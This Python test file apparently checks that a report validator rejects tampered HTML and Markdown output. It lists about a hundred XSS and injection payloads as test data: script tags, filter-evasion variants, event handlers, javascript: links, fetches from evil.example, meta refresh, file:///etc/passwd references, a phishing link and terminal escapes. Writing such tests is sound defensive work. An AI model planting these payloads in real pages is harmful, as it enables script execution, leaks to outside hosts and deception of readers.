"""Attacks by the report: what would run, load or mislead once somebody opens it."""

from tests.hostile.case import CHANGED, Case, Make, insider, replaced, sealed, swap
from workbench.exchange import layout

PAGE = layout.REPORT_HTML


MARKDOWN = layout.REPORT_MARKDOWN


def in_body(markup: bytes) -> Make:
    """Markup put at the end of the report's body."""
    return replaced(PAGE, lambda d: d.replace(b"</body>", markup + b"</body>"))


def in_head(markup: bytes) -> Make:
    return replaced(PAGE, lambda d: d.replace(b"</head>", markup + b"</head>"))


def on_the_rect(attribute: bytes) -> Make:
    return replaced(PAGE, lambda d: d.replace(b"<rect ", b"<rect " + attribute + b" "))


_BODY = {
    "script": b"<script>alert(1)</script>",
    "script in capitals": b"<SCRIPT>alert(1)</SCRIPT>",
    "script with a slash": b"<script/x>alert(1)</script>",
    "script with a NUL": b"<scr\0ipt>alert(1)</scr\0ipt>",
    "script never closed": b"<script>alert(1)",
    "script in a comment that ends early": b"<!--><script>alert(1)</script>-->",
    "script in a comment that ends with !": b"<!-- --!><script>alert(1)</script> -->",
    "script in CDATA": b"<![CDATA[<script>alert(1)</script>]]>",
    "script behind a processing instruction": b"<?x ><script>alert(1)</script>?>",
    "script behind a quotation mark": b"<p title='a\"><script>alert(1)</script>'>x</p>",
    "script from elsewhere": b'<script src="https://evil.example/x.js"></script>',
    "module": b'<script type="module">import "https://evil.example/x.js"</script>',
    "svg script": b"<svg><script>alert(1)</script></svg>",
    "svg script by xlink": b'<svg><script xlink:href="data:,alert(1)"/></svg>',
    "svg animation": b'<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>',
    "svg set": b'<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "svg foreign object": b"<svg><foreignObject><p>x</p></foreignObject></svg>",
    "svg use": b'<svg><use href="https://evil.example/x.svg#a"/></svg>',
    "svg image": b'<svg><image href="https://evil.example/x.png"/></svg>',
    "svg onload": b'<svg onload="alert(1)"></svg>',
    "svg onload with a slash": b'<svg/onload="alert(1)"></svg>',
    "svg link": b'<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
    "image onerror": b'<img src="x" onerror="alert(1)">',
    "image onerror in capitals": b'<img src="x" ONERROR="alert(1)">',
    "image onerror unquoted": b"<img src=x onerror=alert(1)>",
    "image from elsewhere": b'<img src="https://evil.example/x.png">',
    "image without a scheme": b'<img src="//evil.example/x.png">',
    "image from a file": b'<img src="file:///etc/passwd">',
    "image from the package": b'<img src="../evidence/x.svg">',
    "image svg as data": b'<img src="data:image/svg+xml,<svg/>">',
    "image srcset": b'<img srcset="https://evil.example/x.png 2x">',
    "picture": b'<picture><source srcset="https://evil.example/x"></picture>',
    "link javascript": b'<a href="javascript:alert(1)">x</a>',
    "link javascript by entities": b'<a href="&#106;avascript:alert(1)">x</a>',
    "link javascript with a tab": b'<a href="java\tscript:alert(1)">x</a>',
    "link data": b'<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "link vbscript": b'<a href="vbscript:x">x</a>',
    "link elsewhere": b'<a href="https://evil.example/login">Sign in to see the report</a>',
    "link to a file": b'<a href="file:///etc/passwd">x</a>',
    "link with a ping": b'<a href="#x" ping="https://evil.example/">x</a>',
    "iframe": b'<iframe src="https://evil.example/"></iframe>',
    "iframe srcdoc": b'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": b'<object data="evil.swf"></object>',
    "embed": b'<embed src="evil.swf">',
    "applet": b"<applet code=evil></applet>",
    "base": b'<base href="https://evil.example/">',
    "form": b'<form action="https://evil.example/"><input name="p"></form>',
    "input": b'<input type="image" src="https://evil.example/x">',
    "button": b'<button formaction="https://evil.example/">x</button>',
    "textarea": b"<textarea>x</textarea>",
    "select": b"<select><option>x</option></select>",
    "details ontoggle": b"<details open ontoggle=alert(1)>x</details>",
    "video": b'<video src="https://evil.example/x.mp4" autoplay></video>',
    "audio": b'<audio src="https://evil.example/x.mp3"></audio>',
    "track": b'<track src="https://evil.example/x">',
    "frameset": b'<frameset><frame src="https://evil.example/"></frameset>',
    "portal": b'<portal src="https://evil.example/"></portal>',
    "marquee": b"<marquee onstart=alert(1)>x</marquee>",
    "custom element": b"<x-evil>x</x-evil>",
    "template": b"<template><script>alert(1)</script></template>",
    "noscript": b'<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</noscript>',
    "xmp": b"<xmp><script>alert(1)</script></xmp>",
    "plaintext": b"<plaintext>",
    "math": b'<math><mtext><img src="x"></mtext></math>',
    "style with an import": b'<style>@import "https://evil.example/x.css";</style>',
    "style with an address": b"<style>p{background:url(https://evil.example/x)}</style>",
    "style with an escaped address": b"<style>p{background:u\\72l(https://evil.example/x)}</style>",
    "style with a font": b"<style>@font-face{font-family:x;src:url(//evil.example/x)}</style>",
    "style that ends early": b"<style></style><script>alert(1)</script>",
    "style by entities in svg": b"<svg><style>&#64;import 'https://evil.example/x';</style></svg>",
    "style attribute with an address": b'<p style="background:url(https://evil.example/x)">x</p>',
    "style attribute by entities": b'<p style="background:&#117;rl(https://evil.example/x)">x</p>',
    "style attribute expression": b'<p style="width:expression(alert(1))">x</p>',
    "style attribute binding": b'<p style="-moz-binding:url(//evil.example/x)">x</p>',
    "title that ends early": b"<title><p title='</title><script>alert(1)</script>'></title>",
    "event handler twice": b'<p id="a" id="b" onclick="alert(1)">x</p>',
    "event handler without a space": b'<p id="a"onclick="alert(1)">x</p>',
    "event handler behind a form feed": b'<p\x0conclick="alert(1)">x</p>',
    "autofocus": b'<p tabindex="1" autofocus onfocus="alert(1)">x</p>',
    "download": b'<a href="#x" download="evil.exe">x</a>',
    "bare less-than": b"1 < 2 <script",
    "unterminated attribute": b'<p title="',
    "right-to-left override": "\u202eevil\u202c".encode(),
    "escape sequence": b"\x1b[2J",
    "NUL": b"\0",
    "not UTF-8": b"\xff\xfe",
}


_HEAD = {
    "refresh": b'<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "refresh by entities": b'<meta http-equiv="&#114;efresh" content="0;url=https://evil.example/">',
    "refresh in capitals": b'<META HTTP-EQUIV=Refresh CONTENT="0;url=https://evil.example/">',
    "cookie": b'<meta http-equiv="set-cookie" content="x=y">',
    "another character set": b'<meta charset="utf-7">',
    "style sheet from elsewhere": b'<link rel="stylesheet" href="https://evil.example/x.css">',
    "prefetch": b'<link rel="dns-prefetch" href="//evil.example">',
    "manifest": b'<link rel="manifest" href="https://evil.example/m">',
    "base": b'<base target="_blank">',
}


CASES: list[Case] = [
    *(
        insider(
            f"report: {name}",
            "Have something run, load or mislead when the report is opened.",
            in_body(markup),
        )
        for name, markup in _BODY.items()
    ),
    *(
        insider(
            f"report head: {name}",
            "Have something run, load or mislead when the report is opened.",
            in_head(markup),
        )
        for name, markup in _HEAD.items()
    ),
    insider(
        "report: event handler on a shape", "Have a script run.", on_the_rect(b'onclick="alert(1)"')
    ),
    insider(
        "report: fill from elsewhere",
        "Have something fetched.",
        on_the_rect(b'filter="url(https://evil.example/x#f)"'),
    ),
    insider(
        "report: fill by a CSS escape",
        "Have something fetched.",
        on_the_rect(b'mask="u\\72l(https://evil.example/x#f)"'),
    ),
    insider(
        "report: reference by xlink",
        "Have something fetched.",
        on_the_rect(b'xlink:href="https://evil.example/x"'),
    ),
    insider(
        "report: no doctype",
        "Have the page read by other rules.",
        replaced(PAGE, lambda d: d.replace(b"<!DOCTYPE html>", b"")),
    ),
    insider(
        "report: XML",
        "Have the page read by other rules.",
        replaced(PAGE, lambda d: b'<?xml version="1.0"?>' + d),
    ),
    insider(
        "report: entities declared",
        "Fill memory.",
        replaced(
            PAGE, lambda d: d.replace(b"<!DOCTYPE html>", b'<!DOCTYPE html [<!ENTITY a "aaaa">]>')
        ),
    ),
    insider(
        "report: UTF-16",
        "Have the page read by other rules.",
        replaced(PAGE, lambda d: d.decode().encode("utf-16")),
    ),
    insider(
        "report: byte-order mark",
        "Have the page read by other rules.",
        replaced(PAGE, lambda d: b"\xef\xbb\xbf" + d),
    ),
    insider(
        "report: a picture of a program", "Carry a program.", sealed({PAGE: b"MZ" + bytes(100)})
    ),
    insider("report: empty", "Show nothing.", sealed({PAGE: b""})),
    insider(
        "report: a claim of other numbers",
        "Change a number that people read.",
        replaced(PAGE, swap(b"0.64", b"0.01")),
        *CHANGED,
    ),
    insider(
        "report: a claim taken out",
        "Hide a claim.",
        replaced(PAGE, lambda d: d.replace(b"temp: PSI", b"")),
        *CHANGED,
    ),
    insider(
        "markdown: a claim of other numbers",
        "Change a number that people read.",
        replaced(MARKDOWN, swap(b"0.64", b"0.01")),
        *CHANGED,
    ),
    insider(
        "markdown: script",
        "Have a script run.",
        replaced(MARKDOWN, lambda d: d + b"\n<script>alert(1)</script>\n"),
    ),
    insider(
        "markdown: script behind two backslashes",
        "Have a script run.",
        replaced(MARKDOWN, lambda d: d + b"\n\\\\<script>alert(1)</script>\n"),
    ),
    insider(
        "markdown: picture from elsewhere",
        "Have something fetched.",
        replaced(MARKDOWN, lambda d: d + b"\n![x](https://evil.example/x.png)\n"),
    ),
    insider(
        "markdown: link javascript",
        "Have a script run.",
        replaced(MARKDOWN, lambda d: d + b"\n[x](javascript:alert(1))\n"),
    ),
    insider(
        "markdown: reference elsewhere",
        "Have something fetched.",
        replaced(MARKDOWN, lambda d: d + b"\n![x][y]\n\n[y]: https://evil.example/x.png\n"),
    ),
    insider(
        "markdown: automatic link",
        "Send the reader elsewhere.",
        replaced(MARKDOWN, lambda d: d + b"\n<https://evil.example/>\n"),
    ),
    insider(
        "markdown: escape sequence",
        "Steer the reader's terminal.",
        replaced(MARKDOWN, lambda d: d + b"\x1b]0;evil\x07\n"),
    ),
    insider(
        "markdown: right-to-left override",
        "Turn words around.",
        replaced(MARKDOWN, lambda d: d + "\u202eevil\n".encode()),
    ),
    insider(
        "markdown: not UTF-8", "Crash the reader.", replaced(MARKDOWN, lambda d: d + b"\xff\n")
    ),
    insider(
        "markdown: HTML comment",
        "Hide words.",
        replaced(MARKDOWN, lambda d: d + b"\n<!-- hidden -->\n"),
    ),
]
"""Every attack by the report."""
